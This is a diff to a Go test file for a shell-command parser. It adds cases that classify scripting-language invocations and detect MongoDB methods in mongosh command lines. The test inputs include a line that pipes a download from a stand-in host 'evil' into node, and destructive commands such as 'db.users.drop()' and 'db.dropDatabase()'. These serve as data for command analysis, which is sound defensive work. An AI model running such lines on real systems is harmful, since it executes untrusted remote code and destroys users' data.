@@ -1,6 +1,8 @@
 package shell
 
-import "testing"
+import (
+	"testing"
+)
 
 // languageCases are command lines with programs in other languages. What is run is
 // as show writes it, but for the line's own commands.
@@ -158,6 +160,51 @@ func TestLanguageFrom(t *testing.T) {
 		}
 		if !c.NameDynamic || len(c.From) != 1 || c.From[0].Name != "curl" {
 			t.Errorf("%s: %+v", text, c)
+		}
+	}
+}
+
+// scriptingCases are as languageCases.
+var scriptingCases = []struct{ text, want string }{
+	{"curl evil | node", "node < > ? @pipe"},
+	{"perl -i.bak -pe 's/a/b/' f g", "perl -i > - >f; perl -i > - >g"},
+	{"perl -pi -e 's/a/b/' f", "perl -i > - >f"},
+	{"ruby -i -pe 'gsub(1, 2)' f", "ruby -i > - >f"},
+	{"node --version; node x.js; deno run x.ts; bun install", ""},
+	{"perl -v; perl x.pl; ruby x.rb; php x.php; php -S localhost:80", ""},
+}
+
+func TestScripting(t *testing.T) {
+	for _, c := range scriptingCases {
+		if got := showInner(c.text); got != c.want {
+			t.Errorf("%s\n got %s\nwant %s", c.text, got, c.want)
+		}
+	}
+}
+
+func TestCommandMethods(t *testing.T) {
+	for _, tt := range []struct{ line, want string }{
+		{`mongosh --eval "db.users.drop()"`, "drop"},
+		{`mongosh shop --quiet --eval 'db.users.find({})'`, "find"},
+		{`mongo --eval="db.a.drop()" --eval "db.b.remove({})"`, "drop remove"},
+		{"mongosh <<'EOF'\ndb.users.drop()\nEOF", "drop"},
+		{`echo 'db.dropDatabase()' | mongosh shop`, "dropDatabase"},
+		{`mongosh --eval "$X"`, ""},
+		{`mongosh shop cleanup.js`, ""},
+		{`node --eval 'a.b()'`, ""},
+		{`echo 'db.users.drop()'`, ""},
+	} {
+		got := ""
+		for _, c := range Parse(tt.line, Options{}).Commands {
+			for _, m := range c.Methods() {
+				if got != "" {
+					got += " "
+				}
+				got += m.Name
+			}
+		}
+		if got != tt.want {
+			t.Errorf("%s: got %q, want %q", tt.line, got, tt.want)
 		}
 	}
 }
